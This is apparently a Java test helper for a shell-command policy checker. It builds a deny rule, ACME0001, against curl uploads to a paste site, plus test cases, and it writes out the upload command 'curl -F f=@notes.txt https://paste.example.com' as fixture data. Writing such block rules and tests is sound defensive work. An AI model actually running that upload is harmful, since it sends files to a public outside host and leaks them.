package dev.shellwarden.checker.cli;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/** Writes small author rule folders for the tests: the walkthrough's paste-site rule and broken variants. */
public final class AuthorRules {

    /** A deny rule on uploads to a paste site, as an author would write it. */
    public static final String PASTE_RULE = """
            package com.acme.policy;

            import dev.shellwarden.engine.fact.Cmd;

            rule "ACME0001 no-paste-upload"
                @id("ACME0001") @family("exfil") @verdict("deny")
                @summary("uploading files to the paste site")
                @message("uploading to the paste site is refused: share files through the team bucket instead, e.g. `aws s3 cp notes.txt s3://acme-share/`")
                @alternative("aws s3 cp notes.txt s3://acme-share/")
                @rationale("Paste sites are public: anything uploaded there leaks.")
            when
                Cmd( name == "curl", hasArg("https://paste.example.com") )
            then
            end
            """;

    /** Its examples: one where it decides, one near miss. */
    public static final String PASTE_CASES = """
            === upload to the paste site is denied
            curl -F f=@notes.txt https://paste.example.com
            --- deny ACME0001

            === near miss: downloading from elsewhere
            curl -O https://example.com/file.tar.gz
            --- loose=allow !ACME0001
            """;

    /** The paste command itself. */
    public static final String PASTE_COMMAND = "curl -F f=@notes.txt https://paste.example.com";

    private AuthorRules() {
    }

    /** A rules folder under {@code root} holding {@code files} as name, content pairs. */
    public static Path folder(Path root, String... files) {
        try {
            Path dir = Files.createDirectories(root.resolve("rules"));
            for (int i = 0; i < files.length; i += 2) {
                Path f = dir.resolve(files[i]);
                Files.createDirectories(f.getParent());
                Files.writeString(f, files[i + 1], StandardCharsets.UTF_8);
            }
            return dir;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The walkthrough folder: the paste rule and its cases. */
    public static Path paste(Path root) {
        return folder(root, "acme.drl", PASTE_RULE, "acme.cases", PASTE_CASES);
    }
}
